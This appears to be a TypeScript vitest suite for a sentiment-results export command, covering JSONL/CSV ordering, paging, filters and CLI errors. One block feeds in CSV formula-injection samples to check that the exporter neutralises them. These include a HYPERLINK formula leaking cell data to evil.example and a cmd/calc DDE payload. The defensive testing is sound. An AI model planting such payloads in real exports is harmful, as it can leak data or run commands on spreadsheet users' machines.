import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_EXIT, runExportCommand } from '../../src/app/export-command.ts';
import type { SentimentResult } from '../../src/contracts/result-contract.ts';
import { migrate } from '../../src/storage/migrations.ts';
import { countResults, CSV_COLUMNS, exportResults, type ExportFilter } from '../../src/storage/result-export.ts';
import type { StoredResult } from '../../src/storage/result-queries.ts';
import { upsertResults } from '../../src/storage/result-store.ts';
import { createPgliteClient, type SqlClient } from '../../src/storage/sql-client.ts';
import { seededRandom } from '../../src/training/seeded-random.ts';
import { expectedStored, makeResult, memorySink, withoutStoredAt } from '../helpers/results.ts';

const BASE = Date.parse('2024-05-01T12:00:00.000Z');
const key = (r: { reviewId: string; model: { version: string } }) => `${r.reviewId}\u0000${r.model.version}`;

/**
 * ~1,000 results: 10 per timestamp (keyset pages must split runs of equal processed_at), a review
 * stored by two model versions at the same instant, timestamps that differ only in microseconds,
 * ids and labels that need CSV quoting, explanations, products p-0..p-4 and none.
 */
function dataset(): SentimentResult[] {
  const random = seededRandom(42);
  const results: SentimentResult[] = [];
  for (let i = 0; i < 990; i++) {
    const label = random() < 0.4 ? 'negative' : 'positive';
    results.push(
      makeResult(`r-${String(i).padStart(4, '0')}`, {
        productId: i % 6 === 5 ? null : `p-${i % 6}`,
        label,
        score: Math.round((0.5 + random() / 2) * 1e6) / 1e6,
        processedAt: new Date(BASE + Math.floor(i / 10) * 1000).toISOString(),
        ...(i % 50 === 0
          ? {
              explanation: {
                method: 'linear-exact' as const,
                toward: [{ text: 'great, "really"', weight: 0.5 }],
                against: [],
              },
            }
          : {}),
        // The shop's fields on some; metadata JSON holds commas, quotes and a formula (not at the cell start).
        ...(i % 7 === 0
          ? { rating: (i % 11) / 2, locale: 'de-CH', submittedAt: new Date(BASE - i * 86_400_000).toISOString() }
          : {}),
        ...(i % 21 === 0
          ? { metadata: { channel: 'app, "web"', sku: '=HYPERLINK("x")', qty: i, gift: i % 2 === 0, note: null } }
          : {}),
      }),
    );
  }
  const same = '2024-05-01T12:00:30.000Z';
  results.push(makeResult('two-versions', { productId: 'p-1', processedAt: same }));
  results.push(
    makeResult('two-versions', {
      productId: 'p-1',
      processedAt: same,
      model: { name: 'review-sentiment-en', version: 'v2' },
    }),
  );
  for (const [i, us] of ['123456', '123457', '123999', '123001'].entries()) {
    results.push(makeResult(`micro-${i}`, { productId: 'p-2', processedAt: `2024-05-01T12:00:40.${us}Z` }));
  }
  results.push(
    makeResult('quote "me", please\nnext line', {
      productId: 'p-3',
      label: 'neg,ative',
      processedAt: '2024-05-01T12:00:50.000Z',
    }),
  );
  results.push(makeResult('  spaced  ', { productId: 'p-3', processedAt: '2024-05-01T12:00:50.000Z' }));
  return results;
}

const parseJsonl = (text: string) =>
  text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as StoredResult);

let dir: string;
let db: SqlClient;
const data = dataset();

beforeAll(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'sf-export-'));
  db = await createPgliteClient(path.join(dir, 'pglite'));
  await migrate(db);
  for (let i = 0; i < data.length; i += 250) await db.transaction((tx) => upsertResults(tx, data.slice(i, i + 250)));
});
afterAll(async () => {
  await db?.close();
  rmSync(dir, { recursive: true, force: true });
});

async function exportText(
  format: 'jsonl' | 'csv',
  options: ExportFilter & { batchSize?: number; onProgress?: (n: number) => void } = {},
) {
  const out = memorySink();
  const count = await exportResults({ db, format, out, ...options });
  return { count, text: out.text() };
}

describe('exportResults', () => {
  it('JSONL: every stored result once, in (processed_at, review_id, model_version) order, equal to what was stored', async () => {
    const progress: number[] = [];
    const { count, text } = await exportText('jsonl', { batchSize: 64, onProgress: (n) => progress.push(n) });
    const exported = parseJsonl(text);
    expect(count).toBe(data.length);
    expect(exported).toHaveLength(data.length);
    expect(new Set(exported.map(key)).size).toBe(data.length);
    expect(progress).toEqual(
      Array.from({ length: Math.ceil(data.length / 64) }, (_, i) => Math.min((i + 1) * 64, data.length)),
    );

    // The order the database gives in one query (its collation orders review ids).
    const reference = await db.query<{ review_id: string; model_version: string }>(
      'SELECT review_id, model_version FROM sentiment_results ORDER BY processed_at, review_id, model_version',
    );
    expect(exported.map((r) => key(r))).toEqual(reference.rows.map((r) => `${r.review_id}\u0000${r.model_version}`));
    const byKey = new Map(data.map((r) => [key(r), r]));
    for (const r of exported) expect(withoutStoredAt(r)).toEqual(expectedStored(byKey.get(key(r))!));
    expect(exported.filter((r) => r.reviewId.startsWith('micro-')).map((r) => r.reviewId)).toEqual([
      'micro-3',
      'micro-0',
      'micro-1',
      'micro-2',
    ]);
  });

  it('CSV: a header and one parseable record per result, with the same fields as JSONL', async () => {
    const { count, text } = await exportText('csv', { batchSize: 100 });
    const jsonl = parseJsonl((await exportText('jsonl')).text);
    const records = parse(text, { columns: true }) as Record<(typeof CSV_COLUMNS)[number], string>[];
    expect(text.split('\n')[0]).toBe(CSV_COLUMNS.join(','));
    expect(count).toBe(data.length);
    expect(records).toHaveLength(data.length);
    records.forEach((c, i) => {
      const j = jsonl[i]!;
      expect({
        reviewId: c.review_id,
        productId: c.product_id === '' ? null : c.product_id,
        label: c.label,
        score: Number(c.score),
        scores: JSON.parse(c.scores),
        model: { name: c.model_name, version: c.model_version },
        tokens: Number(c.tokens),
        truncated: c.truncated === 'true',
        batchSize: Number(c.batch_size),
        timings: { queuedMs: Number(c.queued_ms), inferenceMs: Number(c.inference_ms) },
        processedAt: c.processed_at,
        storedAt: c.stored_at,
        ...(c.explanation === '' ? {} : { explanation: JSON.parse(c.explanation) }),
        ...(c.rating === '' ? {} : { rating: Number(c.rating) }),
        ...(c.locale === '' ? {} : { locale: c.locale }),
        ...(c.submitted_at === '' ? {} : { submittedAt: c.submitted_at }),
        ...(c.metadata === '' ? {} : { metadata: JSON.parse(c.metadata) }),
      }).toEqual(j);
    });
    expect(records.find((c) => c.label === 'neg,ative')!.review_id).toBe('quote "me", please\nnext line');
    expect(records.some((c) => c.review_id === '  spaced  ')).toBe(true);
    expect(records.filter((c) => c.metadata !== '').length).toBe(48);
    expect(records.filter((c) => c.submitted_at !== '').length).toBe(142);
  });

  it('filters by product and by window [from, to), and counts what it exports', async () => {
    const window = { from: new Date(BASE + 20_000), to: new Date(BASE + 45_000) };
    const inWindow = (r: SentimentResult) =>
      Date.parse(r.processedAt) >= window.from.getTime() && Date.parse(r.processedAt) < window.to.getTime();
    const cases: [ExportFilter, SentimentResult[]][] = [
      [{ productId: 'p-2' }, data.filter((r) => r.productId === 'p-2')],
      [{ window }, data.filter(inWindow)],
      [{ window, productId: 'p-1' }, data.filter((r) => inWindow(r) && r.productId === 'p-1')],
      [{ productId: 'nobody' }, []],
    ];
    for (const [filter, expected] of cases) {
      const { count, text } = await exportText('jsonl', { ...filter, batchSize: 9 });
      expect(count).toBe(expected.length);
      expect(await countResults(db, filter)).toBe(expected.length);
      expect(parseJsonl(text).map(key).sort()).toEqual(expected.map(key).sort());
    }
    expect(data.filter(inWindow).length).toBeGreaterThan(200);
  });

  it('pages of any size give the same export (runs of equal processed_at split across pages)', async () => {
    const whole = (await exportText('csv', { batchSize: 100_000 })).text;
    for (const batchSize of [7, 10, 333]) expect((await exportText('csv', { batchSize })).text).toBe(whole);
    // p-1 holds the review stored by two model versions at one instant, p-2 the microsecond apart
    // timestamps: with one row per page, every row is a page boundary.
    for (const productId of ['p-1', 'p-2']) {
      expect((await exportText('jsonl', { productId, batchSize: 1 })).text).toBe(
        (await exportText('jsonl', { productId })).text,
      );
    }
  });
});

describe('CSV export against formula injection', () => {
  // Cells a spreadsheet would run as formulas. Ids and product ids come from the shop's reviews.
  const hostile = [
    makeResult('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', {
      productId: '@SUM(A1)',
      processedAt: '2024-05-02T00:00:01.000Z',
    }),
    makeResult('+1+cmd|" /C calc"!A0', { productId: '-2+3', processedAt: '2024-05-02T00:00:02.000Z' }),
    makeResult('\tTAB=1', { productId: '\rCR=1', processedAt: '2024-05-02T00:00:03.000Z' }),
    makeResult('\uff1dFULLWIDTH()', { productId: 'plain', processedAt: '2024-05-02T00:00:04.000Z' }),
  ];
  let formulaDb: SqlClient;

  beforeAll(async () => {
    formulaDb = await createPgliteClient(path.join(dir, 'formula-pglite'));
    await migrate(formulaDb);
    await formulaDb.transaction((tx) => upsertResults(tx, hostile));
  });
  afterAll(async () => {
    await formulaDb?.close();
  });

  it("prefixes every cell that starts with = + - @ tab or CR with ' (OWASP), and leaves other cells alone", async () => {
    const out = memorySink();
    expect(await exportResults({ db: formulaDb, format: 'csv', out })).toBe(hostile.length);
    const records = parse(out.text(), { columns: true }) as Record<(typeof CSV_COLUMNS)[number], string>[];
    expect(records.map((r) => [r.review_id, r.product_id])).toEqual([
      [`'=HYPERLINK("http://evil.example/?leak="&A1,"click me")`, `'@SUM(A1)`],
      [`'+1+cmd|" /C calc"!A0`, `'-2+3`],
      [`'\tTAB=1`, `'\rCR=1`],
      [`'\uff1dFULLWIDTH()`, 'plain'],
    ]);
    // Numbers, JSON and timestamps are untouched.
    expect(records.map((r) => Number(r.score))).toEqual(hostile.map((r) => r.score));
    expect(records.every((r) => r.scores.startsWith('{') && !r.processed_at.startsWith("'"))).toBe(true);
    // JSONL is data, not a spreadsheet: exported as stored.
    const jsonl = memorySink();
    await exportResults({ db: formulaDb, format: 'jsonl', out: jsonl });
    expect(parseJsonl(jsonl.text()).map((r) => r.reviewId)).toEqual(hostile.map((r) => r.reviewId));
  });
});

describe('sentiment-fleet export (runExportCommand on a PGlite data dir)', () => {
  const small = data.filter((r) => r.productId === 'p-3').slice(0, 30);
  const io = (env: Record<string, string>) => {
    const stdout = memorySink();
    const stderr = memorySink();
    // STACK_FILE: never the stack of an `npm start` running in this checkout.
    return {
      stdout,
      stderr,
      io: {
        env: { LOG_LEVEL: 'warn', LOG_FORMAT: 'json', STACK_FILE: path.join(dir, 'no-stack.json'), ...env },
        stdout,
        stderr,
        now: () => new Date(BASE + 10_500),
      },
    };
  };
  let dataDir: string;

  beforeAll(async () => {
    dataDir = path.join(dir, 'cli-pglite');
    const other = await createPgliteClient(dataDir);
    await migrate(other);
    await other.transaction((tx) => upsertResults(tx, small));
    await other.close(); // the command opens it itself: one process at a time
  });

  it('writes a CSV file (complete or not at all), JSONL to stdout with filters; exit 0', async () => {
    const file = path.join(dir, 'results.csv');
    const run = io({ SINK_DATA_DIR: dataDir });
    expect(await runExportCommand({ out: file }, run.io)).toBe(EXPORT_EXIT.ok);
    expect(existsSync(`${file}.partial`)).toBe(false);
    expect(parse(readFileSync(file, 'utf8'), { columns: true })).toHaveLength(small.length);
    expect(run.stderr.text()).toMatch(
      new RegExp(`^exported ${small.length} results \\(csv\\) to .*results\\.csv in \\d+\\.\\d s\\n$`),
    );

    // now = BASE + 10.5 s, so the last minute holds the results processed before then.
    const recent = small.filter((r) => Date.parse(r.processedAt) < BASE + 10_500);
    expect(recent.length).toBeGreaterThan(5);
    expect(recent.length).toBeLessThan(small.length);
    const filtered = io({ SINK_DATA_DIR: dataDir });
    expect(await runExportCommand({ window: '1m', product: 'p-3' }, filtered.io)).toBe(EXPORT_EXIT.ok);
    expect(parseJsonl(filtered.stdout.text()).map((r) => r.reviewId)).toEqual(recent.map((r) => r.reviewId));
    expect(filtered.stderr.text()).toMatch(
      new RegExp(`^exported ${recent.length} results \\(jsonl; product p-3, last 1m\\) to stdout`),
    );
  });

  it('exit 2 on bad usage, exit 1 with a clear message when the database cannot be read', async () => {
    const badWindow = io({ SINK_DATA_DIR: dataDir });
    expect(await runExportCommand({ window: 'yesterday' }, badWindow.io)).toBe(EXPORT_EXIT.usage);
    expect(badWindow.stderr.text()).toMatch(/^export: --window: must look like 15m, 6h or 7d/);
    const badConfig = io({ SINK_DATA_DIR: dataDir, DATABASE_URL: 'mysql://nope' });
    expect(await runExportCommand({}, badConfig.io)).toBe(EXPORT_EXIT.usage);
    expect(badConfig.stderr.text()).toMatch(/SF_ERR_CONFIG.*DATABASE_URL/s);

    const missing = io({ SINK_DATA_DIR: path.join(dir, 'no-such-dir') });
    expect(await runExportCommand({}, missing.io)).toBe(EXPORT_EXIT.failed);
    expect(missing.stderr.text()).toMatch(/no PGlite database in .*no-such-dir/);
    // The suite's own database is open in this process: the command must not open it too.
    const busy = io({ SINK_DATA_DIR: path.join(dir, 'pglite') });
    const out = path.join(dir, 'busy.jsonl');
    expect(await runExportCommand({ out }, busy.io)).toBe(EXPORT_EXIT.failed);
    expect(busy.stderr.text()).toMatch(/open in another process .*stop `npm start`/s);
    expect(existsSync(out) || existsSync(`${out}.partial`)).toBe(false);
  });
});
